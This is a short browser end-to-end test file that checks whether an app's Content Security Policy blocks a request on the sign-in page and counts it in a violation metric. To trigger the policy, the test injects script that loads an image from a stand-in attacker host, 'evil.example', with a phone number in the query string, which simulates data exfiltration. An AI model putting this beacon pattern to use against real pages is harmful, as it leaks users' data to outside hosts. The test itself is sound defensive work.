import { expect, test } from './support/redial.ts'

test('a browser reports what the page’s policy blocked, even before sign-in', async ({
  page,
  redial,
}) => {
  const counted = async () => {
    const metrics = await (await fetch(`${redial.url}/metrics`)).text()
    return Number(/^redial_csp_violations_total (\d+)$/m.exec(metrics)?.[1])
  }
  const before = await counted()
  await page.goto('/sign-in')
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/stolen?number=27825550147'
  })
  await expect.poll(counted).toBe(before + 1)
})
